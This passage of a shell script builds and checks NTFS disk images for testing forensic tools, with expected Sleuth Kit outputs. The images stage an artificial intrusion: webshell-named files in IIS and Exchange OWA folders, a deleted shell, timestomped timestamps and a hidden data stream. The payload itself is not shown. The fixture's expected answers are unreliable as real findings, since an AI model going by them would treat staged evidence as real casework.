MFT_LCN=$(fsstat "$WORK/ntfs-basic.raw" | sed -n 's/^First Cluster of MFT: //p')
TRUNC_SIZE=$(( MFT_LCN * 4096 + 90 * 1024 + 512 ))
head -c "$TRUNC_SIZE" "$WORK/ntfs-basic.raw" > "$WORK/bad/ntfs-basic-truncated.raw"
head -c $(( 16 * 1024 * 1024 )) "$WORK/ntfs-basic.raw" > "$WORK/bad/ntfs-basic-half.raw"
: > "$WORK/bad/empty.raw"
py random "$WORK/bad/random.bin" 1048576

# ============================================================================
# Verify the facts README.md promises (fails loudly if tool behaviour changed)
# ============================================================================
log "verifying"
FAILS=0
expect() { # expect DESC ACTUAL EXPECTED
    if [ "$2" != "$3" ]; then echo "VERIFY FAILED: $1: got '$2', expected '$3'" >&2; FAILS=$((FAILS + 1)); fi
}
B=$WORK/ntfs-basic.raw
entry_of() { ifind "$@"; }
si_line() { # si_line IMG ENTRY FIELD -> time from $STANDARD_INFORMATION block
    istat "$1" "$2" | awk -v f="$3" '/^\$STANDARD_INFORMATION/{s=1} /^\$FILE_NAME/{s=0} s && index($0, f":")==1 {sub(/^[^\t]*\t/, ""); print; exit}'
}
fn_line() { # fn_line IMG ENTRY FIELD -> time from the first $FILE_NAME block
    istat "$1" "$2" | awk -v f="$3" '/^\$FILE_NAME/{s=1} /^Attributes:/{s=0} s && index($0, f":")==1 {sub(/^[^\t]*\t/, ""); print; exit}'
}
seq_of() { istat "$1" "$2" | sed -n 's/^Entry: *[0-9]* *Sequence: *\([0-9]*\).*/\1/p'; }

AC=/inetpub/wwwroot/aspnet_client
SW=$AC/system_web/4_0_30319
OWA="/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
# entry numbers
declare -A WANT=(
    ["/inetpub"]=64 ["/inetpub/wwwroot"]=65 ["/inetpub/wwwroot/iisstart.htm"]=66
    ["$AC"]=67 ["$AC/system_web"]=68 ["$SW"]=69 ["/inetpub/logs"]=70 ["/inetpub/logs/LogFiles"]=71
    ["/inetpub/logs/LogFiles/W3SVC1"]=72 ["/inetpub/temp"]=73 ["/Program Files"]=74 ["$OWA"]=81
    ["$OWA/logon.aspx"]=82 ["/Users"]=83 ["/Users/Public/Documents"]=85 ["/Users/Public/Downloads"]=86
    ["/Users/Public/Documents/Quarterly Report 2021.txt"]=87 ["/Users/Public/Documents/отчёт.txt"]=88
    ["/inetpub/temp/reuser.tmp"]=89 ["/inetpub/logs/frag_a.log"]=90 ["/inetpub/logs/frag_b.log"]=91
    ["$SW/discover.aspx"]=92 ["$OWA/OutlookEN.aspx"]=92 ["$OWA/errorEE.aspx"]=93 ["$AC/supp0rt.aspx"]=94
    ["/inetpub/wwwroot/测试.aspx"]=95 ["$AC/🐚shell.aspx"]=96 ["$AC/readme.txt"]=97
    ["/Users/Public/Downloads/tool.zip"]=98 ["$AC/stomped.aspx"]=99 ["/ballast"]=103
)
for p in "${!WANT[@]}"; do expect "entry of $p" "$(ifind -n "$p" "$B")" "${WANT[$p]}"; done
expect "reuser.tmp sequence" "$(seq_of "$B" 89)" 2
expect "stomped \$SI created" "$(si_line "$B" 99 Created)" "2019-06-15 12:34:56.789123400 (UTC)"
expect "stomped \$SI MFT modified" "$(si_line "$B" 99 'MFT Modified')" "2021-03-04 09:00:00.121212100 (UTC)"
expect "stomped \$FN created" "$(fn_line "$B" 99 Created)" "2021-03-03 03:25:10.505050500 (UTC)"
expect "stomped \$FN accessed" "$(fn_line "$B" 99 Accessed)" "2021-03-03 03:25:10.505050500 (UTC)"
expect "supp0rt \$SI created" "$(si_line "$B" 94 Created)" "2021-03-03 03:17:00.000000000 (UTC)"
expect "discover \$SI created" "$(si_line "$B" 92 Created)" "2021-03-03 03:14:15.926535800 (UTC)"
expect "discover \$FN created" "$(fn_line "$B" 92 Created)" "2021-03-03 03:14:15.926535800 (UTC)"
expect "iisstart \$SI created" "$(si_line "$B" 66 Created)" "2021-02-26 09:12:34.111111100 (UTC)"
expect "errorEE content" "$(icat "$B" 93)" "$ONELINER"
expect "ADS content" "$(icat "$B" 97-128-4)" "$ONELINER"
expect "tool.zip size" "$(icat "$B" 98 | wc -c)" 22
expect "\$MFT \$SI created (raw FILETIME 0)" "$(si_line "$B" 0 Created)" "2076-11-29 08:54:34.000000000 (UTC)"
mft_runs=$(istat -r "$B" 0 | awk '/^Type: \$DATA/{s=1;next} /^Type:/{s=0} s && /Starting address/' | wc -l)
[ "$mft_runs" -ge 3 ] || { echo "VERIFY FAILED: \$MFT has only $mft_runs data runs" >&2; FAILS=$((FAILS + 1)); }
fa_runs=$(istat -r "$B" 90 | grep -c 'Starting address')
expect "frag_a.log runs" "$fa_runs" 8
w3=$(fls "$B" 72 | wc -l)
expect "W3SVC1 entries" "$w3" 2100
istat "$B" 87 | grep -q '^Name: QUARTE~1.TXT$' || { echo "VERIFY FAILED: no DOS name on entry 87" >&2; FAILS=$((FAILS + 1)); }
istat "$B" 74 | grep -q '^Name: PROGRA~1$' || { echo "VERIFY FAILED: no DOS name on entry 74" >&2; FAILS=$((FAILS + 1)); }
expect "deleted_shell entry" "$(fls -r -p -d "$B" | grep -c '^-/r \* 100-128-2:	inetpub/wwwroot/aspnet_client/deleted_shell.aspx$')" 1
expect "tmp_drop entry" "$(fls -r -p -d "$B" | grep -c '^-/d \* 101-144-2:	inetpub/wwwroot/aspnet_client/tmp_drop$')" 1
fls -r -p "$B" > "$WORK/fls.txt"
grep -q '^-/r \* [0-9]*-128-[0-9]*:	inetpub/wwwroot/aspnet_client/deleted_shell.aspx$' "$WORK/fls.txt" \
    || { echo "VERIFY FAILED: deleted_shell.aspx not listed as deleted" >&2; FAILS=$((FAILS + 1)); }
expect "E01 md5 == raw md5" "$(ewfinfo "$WORK/ewf/ntfs-basic.E01" | sed -n 's/^[[:space:]]*MD5:[[:space:]]*//p')" "$(md5sum < "$B" | cut -d' ' -f1)"
ewfverify -q "$WORK/ewf/ntfs-basic.E01" >/dev/null 2>&1 || { echo "VERIFY FAILED: ewfverify ntfs-basic" >&2; FAILS=$((FAILS + 1)); }
ewfverify -q "$WORK/bad/ewf-bad-chunk/gpt-ntfs.E01" >/dev/null 2>&1 && { echo "VERIFY FAILED: bad chunk verifies" >&2; FAILS=$((FAILS + 1)); }
# iis-config.raw
I=$WORK/iis-config.raw
CFG=/Windows/System32/inetsrv/config/applicationHost.config
declare -A WANT_IIS=(
    ["/Windows"]=64 ["/Windows/System32/inetsrv/config"]=67 ["$CFG"]=70 ["/inetpub/wwwroot"]=69
    ["/inetpub/wwwroot/index.html"]=71 ["/inetpub/wwwroot/contact.aspx"]=72
    ["/ProgramData/Sync/web"]=75 ["/ProgramData/Sync/web/health.aspx"]=76
)
for p in "${!WANT_IIS[@]}"; do expect "iis-config: entry of $p" "$(ifind -n "$p" "$I")" "${WANT_IIS[$p]}"; done
expect "iis-config: health.aspx content" "$(icat "$I" 76)" "$ONELINER"
expect "iis-config: health.aspx \$SI created" "$(si_line "$I" 76 Created)" "2021-04-05 02:10:00.333333300 (UTC)"
expect "iis-config: config \$SI created" "$(si_line "$I" 70 Created)" "2021-04-01 08:00:00.111111100 (UTC)"
expect "iis-config: config \$SI modified" "$(si_line "$I" 70 'File Modified')" "2021-04-05 02:11:00.444444400 (UTC)"
expect "iis-config: Backup site" "$(icat "$I" 70 | grep -c 'physicalPath="C:\\ProgramData\\Sync\\web"')" 1
expect "iis-config: index.html eval" "$(icat "$I" 71 | grep -c 'eval(')" 1
# carve-records.raw
C=$WORK/carve-records.raw
expect "carve-records: uploads entry" "$(ifind -n /inetpub/wwwroot/uploads "$C")" 67
expect "carve-records: gone.aspx entry reused by new_3.log" "$(ifind -n /inetpub/temp/new_3.log "$C")" 211
expect "carve-records: new_3.log sequence" "$(seq_of "$C" 211)" 2
expect "carve-records: cache.bin (deleted) holds the FILE record" "$(icat "$C" 212 | cmp - "$WORK/gone.rec" && echo same)" same
cache_lcn=$(istat "$C" 212 | awk '/^Type: \$DATA/{getline; print $1; exit}')
expect "carve-records: cache.bin cluster" "$cache_lcn" 368
expect "carve-records: cluster 368 free" "$(blkstat "$C" 368 | tail -1)" "Not Allocated"
expect "carve-records: old_site INDX clusters" "$(istat "$C" 68 | awk '/INDEX_ALLOCATION/{getline; print; exit}' | xargs)" "365 366 367"
expect "carve-records: cluster 365 free" "$(blkstat "$C" 365 | tail -1)" "Not Allocated"
expect "carve-records: zz_shell.aspx key in the slack of uploads' INDX VCN 3 (cluster 364)" \
    "$(blkcat "$C" 364 | python3 -c 'import sys; print(sys.stdin.buffer.read().find("zz_shell.aspx".encode("utf-16-le")))')" 2226
[ "$FAILS" = 0 ] || die "$FAILS verification(s) failed"

# ============================================================================
# Publish: images (raw as .raw.gz), E01 sets, corrupted variants, TSK answers
# ============================================================================
log "publishing into $OUTDIR"
rm -rf "$OUTDIR/expected" "$OUTDIR/ewf-missing-segment" "$OUTDIR/ewf-bad-chunk"
rm -f "$OUTDIR"/*.raw "$OUTDIR"/*.raw.gz "$OUTDIR"/*.E0? "$OUTDIR"/*.bin
mkdir -p "$OUTDIR/expected"
for n in ntfs-basic mbr-ntfs gpt-ntfs; do gzip -9 -n -c "$WORK/$n.raw" > "$OUTDIR/$n.raw.gz"; done
for n in ntfs-basic-truncated ntfs-basic-half; do gzip -9 -n -c "$WORK/bad/$n.raw" > "$OUTDIR/$n.raw.gz"; done
gzip -9 -n -c "$WORK/iis-config.raw" > "$OUTDIR/iis-config.raw.gz"
gzip -9 -n -c "$WORK/carve-records.raw" > "$OUTDIR/carve-records.raw.gz"
cp "$WORK/ewf"/* "$OUTDIR/"
cp -r "$WORK/bad/ewf-missing-segment" "$WORK/bad/ewf-bad-chunk" "$OUTDIR/"
cp "$WORK/bad/empty.raw" "$WORK/bad/random.bin" "$OUTDIR/"

EXP=$OUTDIR/expected
# run a TSK command, keep stdout+stderr and the exit code (some are expected to fail)
rec() { # rec OUTFILE cmd...
    local out=$1; shift
    local rc=0
    "$@" > "$out" 2>&1 || rc=$?
    [ $rc = 0 ] || echo "# exit code: $rc" >> "$out"
}
# hashes of the uncompressed images
( cd "$WORK" && md5sum ntfs-basic.raw mbr-ntfs.raw gpt-ntfs.raw && cd bad && md5sum ntfs-basic-truncated.raw ntfs-basic-half.raw empty.raw random.bin ) > "$EXP/MD5SUMS.uncompressed"
( cd "$WORK" && sha256sum ntfs-basic.raw mbr-ntfs.raw gpt-ntfs.raw && cd bad && sha256sum ntfs-basic-truncated.raw ntfs-basic-half.raw empty.raw random.bin ) > "$EXP/SHA256SUMS.uncompressed"
for n in ntfs-basic mbr-ntfs gpt-ntfs; do md5sum < "$WORK/$n.raw" | cut -d' ' -f1 > "$EXP/$n.raw.md5"; done
for n in ntfs-basic-truncated ntfs-basic-half; do md5sum < "$WORK/bad/$n.raw" | cut -d' ' -f1 > "$EXP/$n.raw.md5"; done

# ntfs-basic: whole-volume answers + istat of every non-bulk entry
rec "$EXP/ntfs-basic.raw.fsstat.txt" fsstat "$B"
rec "$EXP/ntfs-basic.raw.fls.body" fls -r -p -m / "$B"
rec "$EXP/ntfs-basic.raw.fls.txt" fls -r -p "$B"
mkdir -p "$EXP/ntfs-basic.raw.istat"
for e in 0 5 $(seq 64 99) $(fls -r -p -d "$B" | sed -n 's/^[^ ]* \* *\([0-9]*\)-.*/\1/p' | sort -un); do
    rec "$EXP/ntfs-basic.raw.istat/$e.txt" istat -r "$B" "$e"
done
# iis-config: body file and listing; its hashes live in files of their own so that
# SHA256SUMS*/MD5SUMS.uncompressed stay as they were before this image was added
I=$WORK/iis-config.raw
rec "$EXP/iis-config.raw.fls.body" fls -r -p -m / "$I"
rec "$EXP/iis-config.raw.fls.txt" fls -r -p "$I"
md5sum < "$I" | cut -d' ' -f1 > "$EXP/iis-config.raw.md5"
( cd "$WORK" && sha256sum iis-config.raw && cd "$OUTDIR" && sha256sum iis-config.raw.gz ) > "$EXP/iis-config.SHA256SUMS"
# carve-records: the same, plus istat of the entries the carving tests cite
C=$WORK/carve-records.raw
rec "$EXP/carve-records.raw.fls.body" fls -r -p -m / "$C"
rec "$EXP/carve-records.raw.fls.txt" fls -r -p "$C"
mkdir -p "$EXP/carve-records.raw.istat"
for e in 67 68 211 212; do rec "$EXP/carve-records.raw.istat/$e.txt" istat -r "$C" "$e"; done
md5sum < "$C" | cut -d' ' -f1 > "$EXP/carve-records.raw.md5"
( cd "$WORK" && sha256sum carve-records.raw && cd "$OUTDIR" && sha256sum carve-records.raw.gz ) > "$EXP/carve-records.SHA256SUMS"
# the same answers via the E01 set
rec "$EXP/ntfs-basic.E01.fls.body" fls -r -p -m / -i ewf "$OUTDIR/ntfs-basic.E01"
cmp -s "$EXP/ntfs-basic.E01.fls.body" "$EXP/ntfs-basic.raw.fls.body" || die "fls via E01 differs from raw"
rec "$EXP/gpt-ntfs.E01.o2048.fls.body" fls -r -p -m / -o 2048 -i ewf "$OUTDIR/gpt-ntfs.E01"

# partitioned disks
rec "$EXP/mbr-ntfs.raw.mmls.txt" mmls "$WORK/mbr-ntfs.raw"
for o in 2048 14336; do
    rec "$EXP/mbr-ntfs.raw.o$o.fsstat.txt" fsstat -o $o "$WORK/mbr-ntfs.raw"
    rec "$EXP/mbr-ntfs.raw.o$o.fls.body" fls -r -p -m / -o $o "$WORK/mbr-ntfs.raw"
    rec "$EXP/mbr-ntfs.raw.o$o.fls.txt" fls -r -p -o $o "$WORK/mbr-ntfs.raw"
done
rec "$EXP/gpt-ntfs.raw.mmls.txt" mmls "$WORK/gpt-ntfs.raw"
rec "$EXP/gpt-ntfs.raw.o2048.fsstat.txt" fsstat -o 2048 "$WORK/gpt-ntfs.raw"
rec "$EXP/gpt-ntfs.raw.o2048.fls.body" fls -r -p -m / -o 2048 "$WORK/gpt-ntfs.raw"
rec "$EXP/gpt-ntfs.raw.o2048.fls.txt" fls -r -p -o 2048 "$WORK/gpt-ntfs.raw"
# istat of the user entries (>= 64) of each partition
for spec in mbr-ntfs:2048 mbr-ntfs:14336 gpt-ntfs:2048; do
    n=${spec%%:*}; o=${spec##*:}
    mkdir -p "$EXP/$n.raw.o$o.istat"
    for e in $(fls -r -p -o "$o" "$WORK/$n.raw" | sed -n 's/^[^ ]* \*\{0,1\} *\([0-9]*\)-.*/\1/p' | sort -un); do
        [ "$e" -ge 64 ] && rec "$EXP/$n.raw.o$o.istat/$e.txt" istat -r -o "$o" "$WORK/$n.raw" "$e"
    done
done

# E01 sets
( cd "$OUTDIR" && rec "$EXP/ntfs-basic.E01.ewfinfo.txt" ewfinfo ntfs-basic.E01 \
  && rec "$EXP/ntfs-basic.E01.ewfverify.txt" ewfverify -q ntfs-basic.E01 \
  && rec "$EXP/gpt-ntfs.E01.ewfinfo.txt" ewfinfo gpt-ntfs.E01 \
  && rec "$EXP/gpt-ntfs.E01.ewfverify.txt" ewfverify -q gpt-ntfs.E01 \
  && rec "$EXP/ewf-missing-segment.ewfverify.txt" ewfverify -q ewf-missing-segment/ntfs-basic.E01 \
  && rec "$EXP/ewf-bad-chunk.ewfverify.txt" ewfverify -q ewf-bad-chunk/gpt-ntfs.E01 )
# corrupted raw images
rec "$EXP/ntfs-basic-truncated.raw.fsstat.txt" fsstat "$WORK/bad/ntfs-basic-truncated.raw"
rec "$EXP/ntfs-basic-truncated.raw.fls.txt" fls -r -p "$WORK/bad/ntfs-basic-truncated.raw"
rec "$EXP/ntfs-basic-half.raw.fsstat.txt" fsstat "$WORK/bad/ntfs-basic-half.raw"
rec "$EXP/ntfs-basic-half.raw.fls.txt" fls -r -p "$WORK/bad/ntfs-basic-half.raw"
rec "$EXP/empty.raw.fsstat.txt" fsstat "$WORK/bad/empty.raw"
rec "$EXP/random.bin.fsstat.txt" fsstat "$WORK/bad/random.bin"
# paths in tool output must not depend on the temporary build directory
sed -i "s|$WORK/bad/||g; s|$WORK/||g; s|$OUTDIR/||g" "$EXP"/*.txt "$EXP"/*.body

cat > "$EXP/facts.env" <<EOF
# generated by scripts/make-test-images.sh -- shell-style KEY=VALUE facts
NTFS_BASIC_MFT_DATA_RUNS=$mft_runs
NTFS_BASIC_SERIAL=$(fsstat "$B" | sed -n 's/^Volume Serial Number: //p')
NTFS_BASIC_E01_SEGMENTS=$nseg
NTFS_BASIC_TRUNCATED_SIZE=$TRUNC_SIZE
EWF_MISSING_SEGMENT=ntfs-basic.E02
EWF_BAD_CHUNK_FILE=ewf-bad-chunk/gpt-ntfs.E01
EWF_BAD_CHUNK_MEDIA_OFFSET=$BAD_CHUNK_OFFSET
EWF_BAD_CHUNK_SIZE=32768
EWF_BAD_FLIPPED_MEDIA_OFFSET=$BAD_MEDIA_OFFSET
EWF_BAD_FLIPPED_LENGTH=16
GPT_NOTES_TXT_ENTRY=$notes_e
EOF
( cd "$OUTDIR" && find . -type f ! -name README.md ! -path './expected/*' ! -name 'iis-config.*' ! -name 'carve-records.*' | sort | xargs sha256sum ) > "$EXP/SHA256SUMS"

log "done: $(du -sh --apparent-size "$OUTDIR" | cut -f1) in $OUTDIR"
